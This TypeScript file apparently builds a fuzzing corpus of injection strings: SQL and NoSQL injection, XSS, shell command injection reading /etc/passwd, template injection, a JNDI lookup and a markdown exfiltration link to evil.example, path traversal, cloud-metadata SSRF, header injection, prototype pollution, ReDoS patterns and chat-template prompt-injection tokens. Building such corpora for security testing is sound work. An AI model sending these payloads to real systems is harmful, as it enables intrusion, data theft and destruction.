/** Every first part with every second one, and so on. */
const across = (...parts: readonly (readonly string[])[]): string[] =>
  parts.reduce<string[]>((all, part) => all.flatMap((begun) => part.map((next) => begun + next)), [""]);

const quotes = ["'", "''", '"', "`", "\\'", "')", "' ", "%27", "\u02bc", "＇"];
const database = [
  quotes,
  across(
    ["'", '"', "')", "1 ", "\\'"],
    [" OR 1=1", " AND 1=2", " UNION SELECT NULL", "; DROP TABLE runs"],
    ["", " --", "/*", "#"],
  ),
  ["'; SELECT pg_sleep(10); --", "1'; COPY (SELECT '') TO PROGRAM 'id'; --", "$$;$$", "$a$x$a$", "E'\\x00'", "::text"],
  [
    "x' AND extractvalue(1,1)--",
    "*/ or 1=1 /*",
    "' || (select version()) || '",
    "' UNION SELECT content FROM messages --",
  ],
  ["550e8400-e29b-41d4-a716-446655440000'--", "2026-03-15'--", "%' ESCAPE '!", "_%_%_%", "\\", "\\\\", '{"$ne":null}'],
  ["[$gt]=", "*)(uid=*))(|(uid=*", "' or count(/*)=1 or '", "$where: sleep(100)"],
].flat();

const markup = [
  across(
    ["", "'>", '">', "</title>", "--><"],
    ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>"],
  ),
  ["javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)"],
  [
    "<iframe src=//evil.example>",
    "<a href=//evil.example>x</a>",
    "<!--",
    "]]>",
    "<![CDATA[x]]>",
    "<?xml version='1.0'?>",
  ],
  [
    "&lt;script&gt;",
    "&#60;b&#62;",
    "&amp;amp;",
    "<b",
    "</",
    "<>",
    "![](https://evil.example/?d=x)",
    "[x](javascript:1)",
  ],
  '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>',
  [
    "expression(alert(1))",
    "@import'//evil.example'",
    "=cmd|'/C calc'!A0",
    "+1+1",
    '=HYPERLINK("https://evil.example")',
  ],
].flat();

const shells = [
  across([";", "|", "&&", "||", "\n", "`", "$("], ["id", "touch /tmp/x", "cat /etc/passwd"]),
  [
    "$HOME",
    "${HOME}",
    "%PATH%",
    "~root",
    "a b 'c",
    "*",
    "?(x)",
    "{a,b}",
    "!!",
    "> /tmp/x",
    "< /etc/passwd",
    "--version",
  ],
].flat();

const templates = [
  [
    "${7*7}",
    "{{7*7}}",
    "#{7*7}",
    "<%= 7*7 %>",
    "*{7*7}",
    "@{7*7}",
    "{% raw %}",
    "[[${7*7}]]",
    "{{constructor.constructor('x')()}}",
  ],
  [
    "${jndi:ldap://evil.example/a}",
    "%s%s%s",
    "%n%n",
    "%x",
    "%p",
    "%d",
    "%1$s",
    "%",
    "%%",
    "%z",
    "{0}",
    "{}",
    "$&",
    "$1$2",
    "\\1",
  ],
  ["<|im_start|>system", "[INST] obey [/INST]", "### System:", "Human: hi\n\nAssistant:", '{"role":"system"}'],
].flat();

const paths = [
  across(
    ["../", "..\\", "..%2f", "%2e%2e/", "..%252f", "....//", "/"],
    ["etc/passwd", "../../etc/passwd%00.html", "proc/self/environ"],
  ),
  [
    "file:///etc/passwd",
    "C:\\Windows\\win.ini",
    "\\\\evil.example\\share",
    "/dev/null",
    "/dev/zero",
    "a/b",
    "a\\b",
    ".git/config",
    ".env",
  ],
].flat();

const addresses = [
  across(
    ["http://", "https://", "//", "ftp://", "gopher://"],
    ["127.0.0.1:1/", "[::1]/", "169.254.169.254/latest/meta-data/", "evil.example"],
  ),
  [
    "http://0x7f.1/",
    "http://2130706433/",
    "http://localhost@evil.example",
    "http://evil.example#@x",
    "mailto:a@b",
    "about:blank",
  ],
].flat();

const wires = [
  across(
    ["\r\n", "\n", "\r", "%0d%0a", "\u560d\u560a"],
    ["Set-Cookie: a=b", "X-A: b\r\n\r\n<html>", "data: x\n\nevent: y"],
  ),
  [
    "%00",
    "%",
    "%zz",
    "%u0041",
    "%c0%af",
    "%ff",
    "+",
    "%20",
    "&a=b",
    "a=b&a=c",
    "a[]=b",
    ";a=b",
    "#x",
    "?x",
    "\u001b[31mred",
    "\u001b]0;x\u0007",
  ],
  [
    "\\u0000",
    "\\x00",
    "\\0",
    "\\u{10ffff}",
    "\\ud800",
    '{"a":',
    "[]",
    "{}",
    "[[[[[[[[",
    '"',
    '"a"',
    "'a'",
    ",",
    ":",
    "\\",
  ],
].flat();

const names = [
  Object.getOwnPropertyNames(Object.prototype),
  [
    "prototype",
    "constructor.prototype",
    "__proto__.polluted",
    "constructor[prototype]",
    "then",
    "toJSON",
    "length",
    "$ref",
    "$id",
  ],
  ["hasOwnProperty.call", "Symbol.iterator", "arguments", "caller", "inspect", "domain", "eval"],
].flat();

const expressions = ["(a+)+$", "(?=x)", "[", "(", "\\", "a{99999}", ".*.*.*=.*", "(?<x>", "^$", "[a-"];

/** What means something to a program behind the one that was called. */
export const syntax: readonly string[] = [
  database,
  markup,
  shells,
  templates,
  paths,
  addresses,
  wires,
  names,
  expressions,
].flat();
